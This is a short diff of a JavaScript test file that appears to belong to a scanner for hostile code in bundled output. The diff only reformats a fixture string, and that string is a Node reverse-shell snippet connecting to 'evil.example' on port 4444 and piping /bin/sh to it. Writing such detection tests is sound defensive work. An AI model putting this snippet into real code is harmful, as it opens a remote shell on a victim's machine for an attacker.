@@ -46,7 +46,8 @@ describe('in a bundle', () => {
   });
 
   it('what a server does on purpose is its own, whatever stands above it', async () => {
-    const shell = 'net.connect(4444, "evil.example", function () { spawn("/bin/sh", []).stdin.pipe(this); });';
+    const shell =
+      'net.connect(4444, "evil.example", function () { spawn("/bin/sh", []).stdin.pipe(this); });';
     const [own] = await found('dist/index.js', bundle('', shell));
     const [marked] = await found('dist/index.js', bundle(shell, ''));
     assert.equal(marked, own);
